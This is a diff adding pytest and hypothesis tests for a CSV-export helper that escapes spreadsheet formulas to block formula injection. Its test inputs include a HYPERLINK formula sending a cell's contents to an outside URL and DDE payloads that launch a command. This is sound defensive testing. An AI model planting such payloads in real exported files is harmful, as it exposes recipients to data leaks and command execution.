@@ -1,0 +1,36 @@
+"""Spreadsheet formulas in exported CSV."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from specter_graph.loaders.parsing.formulas import escape_formula, unescape_formula
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("https://x.org?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "-1\n=2",
+        "'=1",
+    ],
+)
+def test_a_formula_is_escaped_and_comes_back(value: str):
+    assert escape_formula(value) == f"'{value}"
+    assert unescape_formula(escape_formula(value)) == value
+
+
+@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-05", "~Ann_Smith1", "-5VpIqr", "", "O'Neil"])
+def test_numbers_and_ids_stay_as_they_are(value: str):
+    assert escape_formula(value) == value
+    assert unescape_formula(value) == value
+
+
+@given(st.text("=+-@'\t\ra1. \n", max_size=6))
+def test_every_value_comes_back(value: str):
+    assert unescape_formula(escape_formula(value)) == value
